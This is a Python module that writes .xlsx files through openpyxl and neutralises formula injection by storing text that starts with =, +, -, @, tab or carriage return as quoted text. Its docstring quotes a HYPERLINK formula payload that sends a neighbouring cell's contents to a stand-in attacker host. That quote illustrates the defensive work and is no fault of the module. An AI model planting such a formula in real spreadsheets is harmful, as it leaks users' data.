"""The one door through which QingFeng writes .xlsx files, so that no cell is a formula nobody wrote.

openpyxl stores any text beginning with "=" as a formula, and Excel and LibreOffice read text
beginning with +, -, @, a tab or a carriage return as one once it is edited or pasted (OWASP, CSV
injection): a measure typed as =HYPERLINK("http://evil.example/?x="&C3,"佐证") became a live link
sending the next cell away. Such text is written here as a text cell (never a formula) with
Excel's quote prefix, which is what typing ' before it in Excel stores: the cell shows exactly what
the user typed, Excel's formula bar shows it after a ', and editing it there keeps it text. Numbers
and dates are written as they are; only text is ever neutralised.

Every workbook is made by `new_workbook` and every value goes in through `append`, `put` or
`write`; core/tests/test_spreadsheets.py fails on any other way in.
"""

from copy import copy

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def new_workbook(write_only: bool = False) -> Workbook:
    """An empty workbook; write-only ones stream each row to disk as it is appended."""
    return Workbook(write_only=write_only)


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def write(cell: Cell, value) -> Cell:
    """Give `cell` the value `value`, text that could start a formula as plain text."""
    cell.value = value
    quoted = looks_like_formula(value)
    if quoted:
        cell.data_type = "s"  # openpyxl made "=..." a formula
    if quoted != cell.quotePrefix:
        # A write-only row reuses one cell per column, and the workbook keeps the style array
        # of every cell already written: flip the prefix on a copy, never on the shared array.
        cell._style = copy(cell._style)
        cell.quotePrefix = quoted
    return cell


def new_cell(ws, style: str | None = None) -> Cell:
    """A cell, with a named style, for `append(ws, values, cells=...)`."""
    cell = WriteOnlyCell(ws)
    if style:
        cell.style = style
    return cell


def append(ws, values, cells=None) -> None:
    """Add a row of `values` below the last one.

    With `cells` (one per value, from `new_cell`) the values are written into those styled cells;
    a write-only sheet writes the row at once, so the same cells serve every row.
    """
    if cells is None:
        row = [write(WriteOnlyCell(ws), value) if looks_like_formula(value) else value for value in values]
    else:
        row = [write(cell, value) for cell, value in zip(cells, values, strict=True)]
    ws.append(row)


def put(ws, row: int, column: int, value) -> Cell:
    """Set one cell of an ordinary (not write-only) sheet; returns it for styling."""
    return write(ws.cell(row=row, column=column), value)
